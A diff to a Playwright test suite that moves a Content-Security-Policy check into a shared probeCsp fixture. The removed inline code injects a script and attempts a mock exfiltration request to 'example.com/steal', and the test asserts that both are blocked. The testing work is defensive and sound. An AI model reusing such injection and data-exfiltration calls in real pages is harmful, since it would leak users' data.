@@ -20,6 +20,7 @@ import {
   expectNothingLeft,
   tableEntry,
   expectEditorText,
+  probeCsp,
 } from './fixtures';
 import { dataFile, readExpected } from './data/generate';
 import { serveStatic, type StaticServer } from './static-server';
@@ -315,19 +316,7 @@ test('the built site carries a Content-Security-Policy that blocks injected inli
   // No inline script and no eval (Playwright's own evaluate is exempt from the page's policy, so
   // eval cannot be probed from here: the policy text is checked instead).
   expect(policy).toMatch(/(^|; )script-src 'self' 'wasm-unsafe-eval'(;|$)/);
-  const outcome = await page.evaluate(async () => {
-    const violations: string[] = [];
-    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
-    const script = document.createElement('script');
-    script.textContent = 'window.__injected = true';
-    document.body.append(script);
-    const fetched = await fetch('https://example.com/steal?data=1').then(
-      () => 'sent',
-      () => 'blocked',
-    );
-    await new Promise((resolve) => setTimeout(resolve, 200));
-    return { injected: (window as unknown as { __injected?: boolean }).__injected === true, fetched, violations: [...new Set(violations)].sort() };
-  });
+  const outcome = await probeCsp(page);
   expect(outcome).toEqual({
     injected: false,
     fetched: 'blocked',
